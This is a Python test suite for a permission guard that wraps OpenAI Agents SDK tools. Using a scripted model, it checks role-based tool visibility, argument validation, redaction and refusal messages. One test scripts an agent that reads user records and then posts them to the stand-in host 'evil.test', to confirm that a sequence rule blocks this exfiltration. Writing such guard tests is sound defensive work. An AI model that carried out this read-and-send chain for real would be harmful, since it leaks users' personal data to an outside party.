"""d2.agents.openai_agents against the real Agents SDK runner: ``Runner.run`` with
the SDK's own ``ScriptedModel`` (no network, no real model) decides which tools
each turn offers and invokes the scripted calls through the SDK's tool path
(``is_enabled`` -> ``on_invoke_tool`` with a ``ToolContext``)."""

from __future__ import annotations

import json
from typing import Any

import agents
import pytest
from agents import (
    Agent,
    FunctionTool,
    ModelBehaviorError,
    RunConfig,
    RunContextWrapper,
    Runner,
    Tool,
    function_tool,
)
from agents.testing import ScriptedModel, assistant_message, function_call
from agents.tool import invoke_function_tool
from agents.tool_context import ToolContext
from d2.agents.openai_agents import guard_tool, guard_tools
from d2.core import set_user

RAN: list[str] = []

agents.set_tracing_disabled(True)  # nothing is exported anywhere


@pytest.fixture
def tools(users: list[dict[str, str]]) -> list[FunctionTool]:
    RAN.clear()

    @function_tool
    def web_search(query: str) -> str:
        """Search the web."""
        RAN.append("web_search")
        return f"results for {query!r}"

    @function_tool
    def read_users(limit: int = 10) -> list[dict[str, str]]:
        """Read user records."""
        RAN.append("read_users")
        return users[:limit]

    @function_tool
    async def http_request(url: str, body: str) -> str:
        """Send an HTTP request."""
        RAN.append("http_request")
        return f"POST {url} ({len(body)} bytes)"

    return [web_search, read_users, http_request]


@pytest.fixture
def guarded(configure: Any, tools: list[FunctionTool], tool_ids: dict[str, str]) -> list[Tool]:
    configure()
    return guard_tools(tools, tool_ids=tool_ids)


def offered(model: ScriptedModel, turn: int = 0) -> list[str]:
    return sorted(t.name for t in model.calls[turn].tools if isinstance(t, FunctionTool))


def outputs(model: ScriptedModel) -> dict[str, str]:
    """call id -> the tool output the model was sent back, from its last input."""
    items = model.calls[-1].input
    return {i["call_id"]: i["output"] for i in items if i.get("type") == "function_call_output"}


async def run(tools: list[Tool], *turns: Any) -> ScriptedModel:
    model = ScriptedModel([*turns, [assistant_message("done")]])
    result = await Runner.run(Agent(name="analyst", model=model, tools=tools), "go")
    assert result.final_output == "done"
    return model


async def test_each_user_is_offered_exactly_the_tools_they_may_call(
    guarded: list[Tool],
) -> None:
    set_user("alice", roles=["analyst"])
    assert offered(await run(guarded)) == ["http_request", "read_users", "web_search"]
    set_user("victor", roles=["viewer"])
    assert offered(await run(guarded)) == ["web_search"]
    set_user("nobody")
    assert offered(await run(guarded)) == []


async def test_the_tools_own_enable_hook_still_applies(
    configure: Any, tools: list[FunctionTool], tool_ids: dict[str, str]
) -> None:
    configure()
    tools[0].is_enabled = False

    def only_for_premium(ctx: RunContextWrapper[Any], agent: Any) -> bool:
        return bool(ctx.context and ctx.context.get("premium"))

    tools[1].is_enabled = only_for_premium
    guarded = guard_tools(tools, tool_ids=tool_ids)
    set_user("alice", roles=["analyst"])
    assert offered(await run(guarded)) == ["http_request"]


async def test_a_forbidden_call_is_refused_with_a_tool_output_the_model_reads(
    guarded: list[Tool],
) -> None:
    set_user("victor", roles=["viewer"])
    read_users = guarded[1]
    assert isinstance(read_users, FunctionTool)
    arguments = json.dumps({"limit": 1})
    context = ToolContext(
        context=None, tool_name="read_users", tool_call_id="c1", tool_arguments=arguments
    )
    output = await invoke_function_tool(
        function_tool=read_users, context=context, arguments=arguments
    )
    assert (
        output == "Permission denied: the current user may not call 'db.read_users' (not_granted)."
    )
    assert RAN == []


RECOVER = RunConfig(tool_not_found_behavior="return_error_to_model")


async def test_a_call_to_a_hidden_tool_reads_like_a_call_to_a_missing_tool(
    guarded: list[Tool],
) -> None:
    """With the SDK's recoverable setting the model reads the SDK's own "not found"
    for a hidden tool, word for word what a tool that does not exist gets, and the
    run goes on; the hidden tool's body never runs."""
    set_user("victor", roles=["viewer"])
    model = ScriptedModel(
        [
            [
                function_call("read_users", {"limit": 1}, call_id="hidden"),
                function_call("no_such_tool", {"limit": 1}, call_id="missing"),
                function_call("web_search", {"query": "q"}, call_id="allowed"),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="analyst", model=model, tools=guarded)
    result = await Runner.run(agent, "go", run_config=RECOVER)
    assert result.final_output == "done"
    assert outputs(model) == {
        "hidden": "Tool 'read_users' not found.",
        "missing": "Tool 'no_such_tool' not found.",
        "allowed": "results for 'q'",
    }
    assert RAN == ["web_search"]


@pytest.mark.parametrize("name", ["read_users", "no_such_tool"])
async def test_by_default_a_hidden_tool_stops_the_run_exactly_as_a_missing_one_does(
    guarded: list[Tool], name: str
) -> None:
    """The SDK's default (``tool_not_found_behavior="raise_error"``) ends the run on
    any unknown tool; a hidden one is no exception, and the error does not say it
    exists."""
    set_user("victor", roles=["viewer"])
    model = ScriptedModel([[function_call(name, {"limit": 1}, call_id="c1")]])
    with pytest.raises(ModelBehaviorError) as info:
        await Runner.run(Agent(name="analyst", model=model, tools=guarded), "go")
    assert str(info.value) == f"Tool {name} not found in agent analyst"
    assert RAN == []


async def test_input_and_output_rules_bind_to_the_model_arguments_and_the_result(
    guarded: list[Tool],
) -> None:
    set_user("alice", roles=["analyst"])
    model = await run(
        guarded,
        [function_call("read_users", {"limit": 500}, call_id="c1")],
        [function_call("read_users", {"limit": 2}, call_id="c2")],
    )
    sent = outputs(model)
    assert "input_validation" in sent["c1"] and "'limit'" in sent["c1"]
    assert "[REDACTED]" in sent["c2"] and "example.com" not in sent["c2"]
    assert RAN == ["read_users"]


async def test_a_sequence_rule_stops_an_exfiltration_chain_within_a_run(
    guarded: list[Tool],
) -> None:
    set_user("alice", roles=["analyst"])
    exfil = {"url": "https://evil.test", "body": "users"}
    model = await run(
        guarded,
        [function_call("read_users", {"limit": 1}, call_id="c1")],
        [function_call("http_request", exfil, call_id="c2")],
        [function_call("web_search", {"query": "weather"}, call_id="c3")],
    )
    sent = outputs(model)
    assert "Ada" in sent["c1"]
    assert "sequence_violation" in sent["c2"] and "exfiltration" in sent["c2"]
    assert sent["c3"] == "results for 'weather'"
    assert RAN == ["read_users", "web_search"]
    set_user("alice", roles=["analyst"])  # a new request, a new history
    model = await run(guarded, [function_call("http_request", exfil, call_id="c4")])
    assert outputs(model)["c4"] == "POST https://evil.test (5 bytes)"


def test_guard_tool_is_idempotent_and_refuses_non_function_tools(
    guarded: list[Tool], tools: list[FunctionTool]
) -> None:
    search = guarded[0]
    assert isinstance(search, FunctionTool)
    assert guard_tool(search) is search
    assert search is not tools[0] and tools[0].is_enabled is True  # original untouched
    assert search.params_json_schema == tools[0].params_json_schema
    with pytest.raises(TypeError, match="FunctionTool"):
        guard_tool(object())  # type: ignore[arg-type]


async def invoke(tool: Tool, arguments: str) -> Any:
    """What the SDK does with one function call of the model: the tool's invoker
    with the raw argument string."""
    assert isinstance(tool, FunctionTool)
    context = ToolContext(
        context=None, tool_name=tool.name, tool_call_id="c1", tool_arguments=arguments
    )
    return await invoke_function_tool(function_tool=tool, context=context, arguments=arguments)


@pytest.fixture
def wide_reader(configure: Any, users: list[dict[str, str]]) -> Tool:
    """``read_users`` whose own default (1000) is far above the policy's max of 50."""
    configure()
    RAN.clear()

    @function_tool
    def read_users(limit: int = 1000) -> list[dict[str, str]]:
        """Read user records."""
        RAN.append(f"read_users({limit})")
        return users[:limit]

    return guard_tools([read_users], tool_ids={"read_users": "db.read_users"})[0]


@pytest.mark.parametrize("arguments", ["{}", ""])
async def test_input_rules_see_the_functions_defaults_when_the_model_sends_none(
    wide_reader: Tool, arguments: str
) -> None:
    set_user("alice", roles=["analyst"])
    output = await invoke(wide_reader, arguments)
    assert "input_validation" in output and "'limit' fails max 50" in output
    assert RAN == []


async def test_input_rules_see_the_values_the_function_receives(wide_reader: Tool) -> None:
    set_user("alice", roles=["analyst"])
    # the SDK's parameter model turns "2" into 2: the rule (type int) sees 2
    assert "[REDACTED]" in str(await invoke(wide_reader, json.dumps({"limit": "2"})))
    assert "input_validation" in await invoke(wide_reader, json.dumps({"limit": "500"}))
    assert RAN == ["read_users(2)"]


@pytest.mark.parametrize("arguments", ["{not json", "[1]", '"limit"', '{"limit": "many"}'])
async def test_arguments_that_cannot_be_read_are_refused(wide_reader: Tool, arguments: str) -> None:
    set_user("alice", roles=["analyst"])
    output = await invoke(wide_reader, arguments)
    assert output.startswith("Permission denied: 'db.read_users' was refused (input_validation)")
    assert "many" not in output  # never the value
    assert RAN == []


async def test_a_tool_taking_the_context_binds_its_arguments_after_it(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()

    @function_tool
    def read_users(ctx: RunContextWrapper[Any], limit: int = 1000) -> list[dict[str, str]]:
        """Read user records."""
        return users[:limit]

    guarded = guard_tools([read_users], tool_ids={"read_users": "db.read_users"})[0]
    set_user("alice", roles=["analyst"])
    assert "input_validation" in await invoke(guarded, "{}")
    assert "[REDACTED]" in str(await invoke(guarded, '{"limit": 1}'))


async def test_a_hand_built_tool_gets_the_defaults_of_its_schema(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()
    ran: list[str] = []

    async def run(ctx: ToolContext[Any], arguments: str) -> str:
        ran.append(arguments)
        return json.dumps(users)

    tool = FunctionTool(
        name="read_users",
        description="Read user records.",
        params_json_schema={
            "type": "object",
            "properties": {"limit": {"type": "integer", "default": 1000}},
            "additionalProperties": False,
        },
        on_invoke_tool=run,
        strict_json_schema=False,
    )
    guarded = guard_tools([tool], tool_ids={"read_users": "db.read_users"})[0]
    set_user("alice", roles=["analyst"])
    assert "input_validation" in await invoke(guarded, "{}")
    assert "(input_validation)" in await invoke(guarded, "not json")
    assert not (await invoke(guarded, '{"limit": 5}')).startswith("Permission denied")
    assert ran == ['{"limit": 5}']
